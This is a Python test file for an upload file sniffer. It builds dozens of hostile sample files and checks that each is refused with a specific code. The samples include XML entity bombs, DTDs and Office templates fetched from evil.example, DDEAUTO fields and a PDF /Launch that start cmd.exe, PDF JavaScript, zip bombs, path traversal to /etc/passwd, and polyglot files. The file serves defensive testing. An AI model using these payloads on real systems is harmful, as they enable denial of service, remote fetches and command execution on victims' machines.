"""Files made to harm whoever opens them, or this program when it looks into them. Each is refused for its own reason."""

from __future__ import annotations

import io
import os
import zipfile
import zlib
from typing import IO

import pytest

from proposals.files import UnfitFileError, sniff
from tests.files import DOCX_PARTS, JPG, PDF, RELATIONS, TEXT, TYPES, XLSX_PARTS, docx, package, png

OFFICE = "http://schemas.openxmlformats.org/officeDocument/2006/relationships"
LAUGHS = (
    '<?xml version="1.0"?><!DOCTYPE lolz [<!ENTITY a "ha"><!ENTITY b "&a;&a;&a;&a;&a;&a;&a;&a;&a;&a;">'
    '<!ENTITY c "&b;&b;&b;&b;&b;&b;&b;&b;&b;&b;">]><w:document>&c;</w:document>'
)
QUADRATIC = (
    f'<?xml version="1.0"?><!DOCTYPE x [<!ENTITY a "{"h" * 50_000}">]><w:document>{"&a;" * 1000}</w:document>'
)
FETCHING = '<?xml version="1.0"?><!DOCTYPE x SYSTEM "http://evil.example/x.dtd"><w:document/>'
DISGUISED_TYPE = (
    "<?xml version='1.0' encoding='utf-16'?><!DOCTYPE x [<!ENTITY a 'x'>]><w:document>&a;</w:document>"
)
BEHIND = b"PK\x05\x06" + bytes(18)


def relation(kind: str, target: str, mode: str = ' TargetMode="External"') -> str:
    return RELATIONS.format(f'<Relationship Id="r1" Type="{OFFICE}/{kind}" Target="{target}"{mode}/>')


def field(words: str) -> str:
    return TEXT.format(f"<w:r><w:instrText>{words}</w:instrText></w:r>")


def main_part(text: str | bytes) -> bytes:
    return docx({"word/document.xml": text})


def encrypted() -> bytes:
    data = bytearray(docx())
    for mark, at in ((b"PK\x01\x02", 8), (b"PK\x03\x04", 6)):
        data[data.index(mark) + at] |= 1
    return bytes(data)


def doubled() -> bytes:
    written = io.BytesIO(docx())
    with zipfile.ZipFile(written, "a") as archive, pytest.warns(UserWarning, match="Duplicate"):
        archive.writestr("word/document.xml", TEXT.format(""))
    return written.getvalue()


def lying() -> bytes:
    """A part that unpacks to more than it declares."""
    data = docx({"word/media/picture.png": b"0" * 5000})
    for mark, at in ((b"PK\x01\x02", 24), (b"PK\x03\x04", 22)):
        start = data.rindex(mark)
        data = data[: start + at] + (10).to_bytes(4, "little") + data[start + at + 4 :]
    return data


def pdf_with(words: bytes) -> bytes:
    return PDF.replace(b"trailer", b"3 0 obj\n<<" + words + b">>\nendobj\ntrailer")


def pdf_packing(words: bytes) -> bytes:
    """The same words inside a packed stream of objects, where a plain search does not find them."""
    packed = zlib.compress(words)
    stream = b"3 0 obj\n<</Type/ObjStm/N 1/First 4/Filter/FlateDecode/Length %d>>\nstream\n" % len(packed)
    return PDF.replace(b"trailer", stream + packed + b"\nendstream\nendobj\ntrailer")


ATTACKS = {
    "nothing at all": ("空.pdf", b"", "empty_file"),
    "a program": ("年报.pdf", b"MZ\x90\x00" + bytes(60), "unknown_kind"),
    "a page": ("年报.html", b"<script>alert(1)</script>", "wrong_ending"),
    "a drawing with script": ("图.svg", b"<svg onload='alert(1)'/>", "wrong_ending"),
    "GIF that is JavaScript": ("图.gif", b"GIF89a=1;alert(1)//", "unknown_kind"),
    "text with a control character": ("说明.txt", b"abc\x1b[2J", "unknown_kind"),
    "text named PDF": ("说明.pdf", "说明".encode(), "wrong_ending"),
    "PDF named Word": ("说明.docx", PDF, "wrong_ending"),
    "Word named Excel": ("表.xlsx", docx(), "wrong_ending"),
    "old Word": ("旧.doc", b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + bytes(600), "old_office"),
    "telephone picture": ("照片.heic", b"\x00\x00\x00\x18ftypheic" + bytes(40), "phone_picture"),
    "archive": ("材料.zip", package({"a.txt": "a"}), "archive"),
    "rar": ("材料.rar", b"Rar!\x1a\x07\x01\x00", "archive"),
    "Word and Excel at once": ("两样.docx", package(DOCX_PARTS | XLSX_PARTS), "disguised"),
    "billion laughs": ("笑.docx", main_part(LAUGHS), "strange"),
    "quadratic entities": ("笑.docx", main_part(QUADRATIC), "strange"),
    "document type from outside": ("取.docx", main_part(FETCHING), "strange"),
    "document type in UTF-16": ("取.docx", main_part(DISGUISED_TYPE.encode("utf-16")), "strange"),
    "broken XML": ("坏.docx", main_part("<w:document>"), "broken"),
    "deep XML": ("深.docx", main_part("<a>" * 200_000), "broken"),
    "macros": ("宏.docx", docx({"word/vbaProject.bin": b"x"}), "macros"),
    "macros by type": (
        "宏.docx",
        docx({"[Content_Types].xml": TYPES.replace("/>", '><Override ContentType="application/vnd.ms-word.document.macroEnabled.main+xml"/></Types>')}),
        "macros",
    ),
    "Excel 4 macros": ("宏.xlsx", package(XLSX_PARTS | {"xl/macrosheets/sheet1.xml": "<x/>"}), "macros"),
    "template from outside": ("模板.docx", docx({"word/_rels/settings.xml.rels": relation("attachedTemplate", "https://evil.example/t.dotm")}), "outside_links"),
    "picture from outside": ("图.docx", docx({"word/_rels/document.xml.rels": relation("image", "http://evil.example/p.png")}), "outside_links"),
    "link to a share": ("链.docx", docx({"word/_rels/document.xml.rels": relation("hyperlink", r"file:///\\evil\share")}), "outside_links"),
    "link that is script": ("链.docx", docx({"word/_rels/document.xml.rels": relation("hyperlink", "javascript:alert(1)")}), "outside_links"),
    "mode spelled with entities": ("链.docx", docx({"word/_rels/document.xml.rels": relation("image", "http://evil.example/p", ' TargetMode="Exter&#110;al"')}), "outside_links"),
    "inner link to a share": ("链.docx", docx({"word/_rels/document.xml.rels": relation("image", r"\\evil\share", "")}), "outside_links"),
    "workbook from outside": ("表.xlsx", package(XLSX_PARTS | {"xl/externalLinks/externalLink1.xml": "<x/>"}), "outside_links"),
    "DDE in a field": ("域.docx", main_part(field(" DDEAUTO c:\\\\windows\\\\system32\\\\cmd.exe ")), "outside_links"),
    "DDE in pieces": ("域.docx", main_part(TEXT.format("<w:r><w:instrText>DDE</w:instrText></w:r><w:r><w:instrText>AUTO cmd</w:instrText></w:r>")), "outside_links"),
    "embedded program": ("嵌.docx", docx({"word/embeddings/oleObject1.bin": b"x"}), "embedded"),
    "ActiveX": ("嵌.docx", docx({"word/activeX/activeX1.xml": "<x/>"}), "embedded"),
    "program among the parts": ("嵌.docx", docx({"word/media/run.exe": b"MZ"}), "embedded"),
    "zip bomb": ("炸.docx", docx({"word/media/a.png": bytes(30_000_000)}), "swelling"),
    "many small bombs": ("炸.docx", docx({f"word/p{n}.xml": b"<a>" + b"<b/>" * 200_000 + b"</a>" for n in range(5)}), "swelling"),
    "many elements": ("炸.docx", docx({"word/media/a.png": os.urandom(150_000), "word/p.xml": b"<a>" + b"<b/>" * 4_000_001 + b"</a>"}), "swelling"),
    "many parts": ("炸.docx", docx({f"word/media/{n}.png": b"" for n in range(3_001)}), "swelling"),
    "more than declared": ("谎.docx", lying(), "broken"),
    "path that climbs": ("爬.docx", docx({"word/../../etc/passwd": "x"}), "strange"),
    "path from the root": ("爬.docx", docx({"/etc/passwd": "x"}), "strange"),
    "path of Windows": ("爬.docx", docx({"word\\..\\x.xml": "x"}), "strange"),
    "part twice": ("双.docx", doubled(), "strange"),
    "encrypted": ("密.docx", encrypted(), "locked"),
    "packed otherwise": ("别.docx", package(DOCX_PARTS, method=zipfile.ZIP_BZIP2), "strange"),
    "cut off": ("断.docx", docx()[:-30], "broken"),
    "something before the archive": ("前.docx", b"PK\x03\x04" + docx(), "disguised"),
    "something behind the archive": ("后.docx", docx() + b"<script>", "disguised"),
    "PDF that is an archive": ("两样.pdf", PDF + package({"a.js": "x"}) + b"%%EOF", "disguised"),
    "picture that is an archive": ("两样.jpg", JPG + BEHIND, "disguised"),
    "picture that is a PDF": ("两样.png", png()[:33] + PDF, "disguised"),
    "PDF with script": ("脚本.pdf", pdf_with(b"/S/JavaScript/JS(app.alert(1))"), "scripts"),
    "PDF with spelled-out script": ("脚本.pdf", pdf_with(b"/S/J#61vaScript/JS(x)"), "scripts"),
    "PDF with packed script": ("脚本.pdf", pdf_packing(b"4 0 <</S/JavaScript/JS(x)>>"), "scripts"),
    "PDF that starts programs": ("启.pdf", pdf_with(b"/S/Launch/F(cmd.exe)"), "scripts"),
    "PDF that carries files": ("带.pdf", pdf_with(b"/Type/EmbeddedFile /Length 0"), "embedded"),
    "PDF with password": ("密.pdf", pdf_with(b"/Encrypt 5 0 R"), "locked"),
    "PDF that swells": ("炸.pdf", pdf_packing(bytes(70_000_000)), "swelling"),
    "PDF with many packed objects": ("多.pdf", PDF.replace(b"trailer", b"/ObjStm stream\n" * 50_001 + b"trailer"), "strange"),
    "PDF packed in a strange way": ("藏.pdf", pdf_packing(b"x").replace(zlib.compress(b"x"), b"notpacked"), "strange"),
    "PDF cut off": ("断.pdf", PDF[:-8], "broken"),
    "huge picture": ("大.png", png(60_000, 60_000), "swelling"),
    "picture with something behind it": ("后.png", png() + b"<?php", "disguised"),
    "picture cut off": ("断.png", png()[:-4], "broken"),
    "photograph cut off": ("断.jpg", JPG[:10], "broken"),
    "photograph without a picture": ("空.jpg", b"\xff\xd8\xff\xda\x00\x02", "broken"),
}  # fmt: skip


@pytest.mark.parametrize("attack", ATTACKS)
def test_what_would_harm_is_refused_for_its_own_reason(attack):
    name, data, code = ATTACKS[attack]

    with pytest.raises(UnfitFileError) as refused:
        sniff(io.BytesIO(data), len(data), name)

    assert refused.value.code == code


class Endless(io.RawIOBase):
    """Bytes without end as far as anybody asks; counts what was read."""

    def __init__(self, head: bytes, size: int) -> None:
        self.head, self.size, self.at, self.given = head, size, 0, 0

    def seekable(self) -> bool:
        return True

    def readable(self) -> bool:
        return True

    def seek(self, offset: int, whence: int = 0) -> int:
        self.at = (0, self.at, self.size)[whence] + offset
        return self.at

    def tell(self) -> int:
        return self.at

    def read(self, count: int = -1) -> bytes:
        asked = self.size - self.at if count < 0 else min(count, self.size - self.at)
        given = self.head[self.at : self.at + asked].ljust(asked, b"\x00")
        self.at += asked
        self.given += asked
        return given


@pytest.mark.parametrize("head", [b"PK\x03\x04", b"\x89PNG\r\n\x1a\n", b"\xff\xd8\xff\xe0", b"GIF89a", b""])
def test_two_hundred_megabytes_are_refused_from_their_ends(head):
    stream: IO[bytes] = Endless(head, 200 * 1024 * 1024)  # type: ignore[assignment]

    with pytest.raises(UnfitFileError):
        sniff(stream, 200 * 1024 * 1024, "大.docx")

    assert stream.given < 2 * 1024 * 1024


@pytest.mark.parametrize("words", [b"<</ObjStm ", b"/#41#41#41#41", b"<<<<<<<<", b"stream\n", b"/Ab "])
def test_a_pdf_made_to_take_long_is_looked_at_once(words):
    data = PDF.replace(b"trailer", words * (2 * 1024 * 1024 // len(words)) + b"trailer")

    assert sniff(io.BytesIO(data), len(data), "慢.pdf") == "pdf"
